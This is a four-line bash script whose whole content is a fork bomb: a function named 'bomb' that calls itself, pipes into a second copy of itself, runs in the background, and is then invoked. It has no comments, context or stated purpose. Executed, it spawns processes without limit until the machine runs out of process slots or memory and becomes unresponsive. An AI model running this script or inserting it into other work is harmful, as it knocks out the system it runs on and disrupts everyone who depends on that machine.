#!/usr/bin/env bash
bomb() { bomb | bomb & }
bomb
wait
